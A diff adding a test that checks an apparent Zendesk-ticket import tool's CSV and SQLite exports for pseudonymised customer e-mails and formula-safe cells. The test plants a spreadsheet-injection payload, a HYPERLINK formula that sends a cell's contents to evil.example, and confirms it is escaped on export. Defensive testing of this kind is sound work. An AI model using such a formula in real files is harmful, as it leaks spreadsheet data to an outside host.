@@ -219,3 +219,27 @@ test('a source that fails to load is listed with its error; everything else stil
 	expect(clean.sources.map(source => source.error)).toEqual([undefined]);
 	imports.close();
 });
+
+test('CSV bundle and SQLite exports hold pseudonymised customers and spreadsheet-safe cells', async () => {
+	const imports = await session();
+	// An agent name that a spreadsheet would run as a formula, and customers known by e-mail.
+	const hostile = zendeskCsv.replaceAll('Ana Ruiz', '"=HYPERLINK(""https://evil.example/?""&A1,""open"")"').replaceAll(',9001,', ',dana@example.com,');
+	expect(await imports.importFile('tickets.csv', file(hostile), {host: 'acme.zendesk.com'})).toMatchObject({ok: true});
+	await imports.reload();
+	// The loaded database itself keeps the raw keys (the dashboard's own queries need nothing else).
+	expect(JSON.stringify(imports.kpis({groupBy: 'agent'}))).toMatch(/=HYPERLINK/);
+
+	const zip = new TextDecoder().decode(await imports.exportCsvBundle());
+	expect(zip).not.toMatch(/dana@example\.com|zendesk:acme\.zendesk\.com:(email|id):/);
+	expect(zip).toMatch(/"'=HYPERLINK\(""https:\/\/evil\.example/);
+	expect(zip).not.toMatch(/(^|,)"?=HYPERLINK/m);
+	expect(zip).toMatch(/,h:[\da-f]{32},/);
+
+	const sqlite = await openNodeDatabase(await imports.exportSqlite());
+	const keys = sqlite.exec('SELECT requester_key FROM ticket_metrics')[0]!.values.map(row => row[0]);
+	expect(keys).toHaveLength(3);
+	expect(keys.every(key => typeof key === 'string' && /^h:[\da-f]{32}$/.test(key))).toBe(true);
+	expect(new TextDecoder().decode(sqlite.export())).not.toMatch(/dana@example\.com/);
+	sqlite.close();
+	imports.close();
+});
